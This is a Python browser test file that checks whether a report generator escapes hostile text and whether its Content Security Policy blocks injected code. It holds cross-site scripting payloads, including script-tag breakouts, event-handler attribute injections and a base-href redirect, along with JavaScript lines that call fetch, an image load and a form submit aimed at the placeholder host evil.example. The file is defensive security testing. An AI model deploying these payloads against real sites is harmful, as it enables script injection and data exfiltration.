"""What a report must not do, whatever is in it: run, load, send, or show what is not there."""

import pytest

from spaceform.report.untrusted import cut, visible
from tests.browser.scenes import team_plan
from tests.browser.studio import Look, Sight, Studio
from tests.unit.report.hostile import HOSTILE
from tests.unit.report.plans import everything_plan, together

MARKUP = (
    "</script><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</bdi></summary></details></main></body></html><script>window.pwned=1</script>",
    '" onfocus="window.pwned=1" autofocus="',
    "' onmouseover='window.pwned=1' x='",
    "<base href=https://evil.example/>",
    "<style>*{display:none}</style>",
    "<textarea><plaintext><noscript><template>",
    "{{ 7 * 7 }}{% raw %}{# x #}",
    "<scr\0ipt>window.pwned=1</scr\0ipt>",
    "id=main&at=main#main",
)
"""What comes closest to the places of a report where texts stand."""

ALL = (*HOSTILE, *MARKUP)
BATCH = 20
BATCHES = [ALL[start : start + BATCH] for start in range(0, len(ALL), BATCH)]

# What a page is made of: elements with the names of their attributes, and what nobody should see.
READING = """() => {
    const every = [...document.querySelectorAll("*")];
    const ids = every.map(each => each.id).filter(Boolean);
    const wrong = it => /^(on|style|src|action)/.test(it.name)
        || (it.name === "href" && !it.value.startsWith("#"))
        || (it.name === "id" && !/^[a-z0-9-]+$/.test(it.value));
    return {
        elements: every.map(each => [each.localName, ...each.getAttributeNames().sort()].join(" ")),
        comments: every.flatMap(each => [...each.childNodes]).filter(it => it.nodeType === 8),
        wrong: every.flatMap(each => [...each.attributes]).filter(wrong).map(it => it.name),
        twice: ids.length - new Set(ids).size,
        pwned: window.pwned,
        text: document.body.textContent,
    };
}"""


def elements(sight: Sight) -> set[str]:
    """Return each element of a page with the names of its attributes."""
    return set(sight.page.evaluate(READING)["elements"])


@pytest.fixture(scope="session")
def harmless(studio: Studio, tmp_path_factory: pytest.TempPathFactory) -> set[str]:
    """Return the elements of reports in which no text is hostile, be it short, long or empty."""
    look = Look(studio, tmp_path_factory.mktemp("harmless"))

    def see() -> set[str]:
        texts = [*(f"x{number}" for number in range(BATCH - 2)), "x" * 10_000, ""]
        every = [everything_plan(text) for text in texts]
        found = set().union(*(elements(look.at(plan)) for plan in (*every[-3:], together(every))))
        look.close()
        return found

    return studio.do(see)


@pytest.mark.parametrize("texts", BATCHES, ids=lambda texts: ascii(texts[0])[1:20])
def test_hostile_texts_are_only_text(
    texts: tuple[str, ...], look: Look, harmless: set[str]
) -> None:
    sight = look.at(together(everything_plan(text) for text in texts))
    read = sight.page.evaluate(READING)
    assert set(read["elements"]) <= harmless
    assert (read["comments"], read["wrong"], read["twice"]) == ([], [], 0)
    for text in texts:
        for kind in ("group", "user"):
            assert visible(cut(f"{kind}:{text}")) in read["text"], text
    assert read["pwned"] is None
    assert sight.complaints == []
    assert sight.requests == [sight.page.url]


def test_a_report_asks_for_nothing_and_complains_of_nothing(look: Look) -> None:
    sight = look.at(team_plan())
    sight.page.get_by_label("Search").fill("x")
    sight.page.get_by_role("button", name="Copy Digest").click()
    sight.page.wait_for_timeout(300)
    assert sight.requests == [sight.page.url.partition("#")[0]]
    assert sight.complaints == []


@pytest.mark.parametrize(
    "deed",
    [
        "s = document.createElement('script'); s.text = 'pwned = 1'; document.body.append(s)",
        "document.body.setAttribute('onclick', 'pwned = 1'); document.body.click()",
        "document.body.innerHTML = '<img src=x onerror=pwned=1>'",
        "i = new Image(); i.src = 'https://evil.example/x'; document.body.append(i)",
        "fetch('https://evil.example/').catch(String)",
        "s = document.createElement('style'); s.textContent = 'x'; document.body.append(s)",
        "s = document.createElement('base'); s.href = 'https://x.example'; document.head.append(s)",
        "document.forms[0].action = 'https://evil.example'; document.forms[0].submit()",
        "document.body.style = ''; document.body.setAttribute('style', 'color: red')",
    ],
)
def test_the_policy_of_the_page_stops_what_would_get_in_all_the_same(deed: str, look: Look) -> None:
    sight = look.at(team_plan(1))
    thrown = sight.page.evaluate(
        f"() => {{ let s, i; try {{ {deed} }} catch (error) {{ return String(error); }} }}"
    )
    sight.hear(thrown or "", "Content Security Policy", "Trusted")
    assert sight.page.evaluate("window.pwned") is None
